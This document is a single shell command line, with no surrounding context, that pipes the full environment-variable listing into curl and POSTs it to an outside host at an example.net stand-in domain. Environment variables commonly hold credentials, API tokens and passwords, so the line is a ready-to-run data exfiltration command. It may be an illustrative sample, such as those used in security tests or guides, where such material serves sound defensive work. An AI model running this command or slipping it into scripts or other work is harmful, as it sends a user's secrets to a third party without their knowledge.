env | curl -X POST --data-binary @- https://collector.example.net/e
